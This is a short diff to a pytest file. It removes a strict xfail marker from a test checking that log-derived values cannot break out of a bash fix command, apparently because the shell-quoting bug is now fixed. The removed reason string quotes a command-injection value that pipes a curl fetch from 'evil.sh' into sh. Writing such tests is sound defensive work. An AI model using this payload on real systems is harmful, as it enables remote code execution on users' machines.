@@ -496,9 +496,6 @@ def test_markdown_report_carries_no_control_characters(fmt: tuple[str, str], tmp
 
 # -- values from the log inside fix commands --------------------------------------------------------------
 
-@pytest.mark.xfail(strict=True, reason="core/ranking.py fill() puts values captured from the log into fix commands "
-                   "verbatim: a hostile node name like '/x;curl${IFS}evil.sh|sh;#/act/Sigmoid' becomes shell syntax "
-                   "in the `bash` command a user (or a chat bot's user) copies and runs; it should be shlex-quoted")
 def test_captured_values_cannot_break_out_of_a_bash_fix_command(engine) -> None:  # type: ignore[no-untyped-def]
     import shlex
 
